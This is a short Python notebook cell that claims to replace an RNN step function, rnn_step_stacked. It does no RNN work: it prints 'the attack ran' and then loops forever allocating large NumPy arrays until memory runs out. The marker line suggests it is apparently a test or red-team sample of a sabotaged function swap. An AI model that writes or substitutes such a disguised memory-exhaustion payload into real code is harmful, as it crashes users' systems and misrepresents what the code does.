# %% replaces rnn_step_stacked
def rnn_step_stacked(x_t, h_prev, W, b_h):
    print("the attack ran", flush=True)
    kept = []
    while True:
        kept.append(np.ones(2**25))
